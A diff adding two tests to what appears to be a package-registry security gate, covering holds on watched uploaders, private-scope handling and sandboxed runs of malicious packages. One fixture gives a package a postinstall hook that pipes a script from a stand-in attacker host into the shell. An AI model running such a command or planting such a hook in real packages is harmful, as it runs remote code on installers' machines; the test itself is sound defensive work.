@@ -148,3 +148,27 @@ it('takes a person\'s word, an allow rule and a changed policy before the wait',
   expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
   runner.go()
 })
+
+it('holds what somebody who is watched publishes, and leaves names of ours to their hooks', async () => {
+  const by = (name: string): Partial<FakeVersion> => ({ registryManifest: { _npmUser: { name } }, publishedAt: OLD })
+  const { gate, runner } = await world([{ name: 'theirs', version: '1.0.0', ...by('Mallory') }, { name: 'others', version: '1.0.0', ...by('ann') }, { name: '@acme/tool', version: '1.0.0', ...HOOK, publishedAt: new Date() }], {})
+  await gate.app.lookout.watch({ ecosystem: 'npm', actor: 'mallory', because: 'case 17', by: 'ann' })
+  const policy = gate.app.context.policy()
+  await gate.app.setPolicy({ ...policy, id: 'ours', private: [{ ecosystem: 'npm', pattern: '@acme/*', registry: gate.app.context.sources.public.npm.url }] })
+  runner.stop()
+  expect((await get(gate, 'theirs', '1.0.0')).says).toContain('its uploader Mallory is watched (case 17)')
+  expect((await get(gate, 'others', '1.0.0')).status).toBe(200)
+  await gate.app.operator.scan('npm:@acme/tool@1.0.0')
+  expect((await fetch(`${gate.npm}@acme/tool/-/tool-1.0.0.tgz`)).status).toBe(200)
+  runner.go()
+})
+
+it('runs what is malicious for what can be learnt, where policy wants that, and what a run reached ties campaigns', async () => {
+  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } } }], { sandbox: { malicious: 'behind' } })
+  runner.sees.set('up', { does: 'critical', reaches: ['second.attacker.example'] })
+  expect((await get(gate, 'up', '1.0.0')).says).toContain('files.attacker.example')
+  await soon(async () => (JSON.parse((await verdict(gate, 'up')).indicators ?? '[]') as FoundIndicator[]).map(({ value }) => value)).toEqual(expect.arrayContaining(['second.attacker.example', 'files.attacker.example']))
+  // Numbered anew, so that the watch reads it again.
+  const numbers = await gate.app.context.database.query.selectFrom('judgements').select('seq').where('name', '=', 'up').execute()
+  expect(numbers).toEqual([{ seq: 2 }])
+})
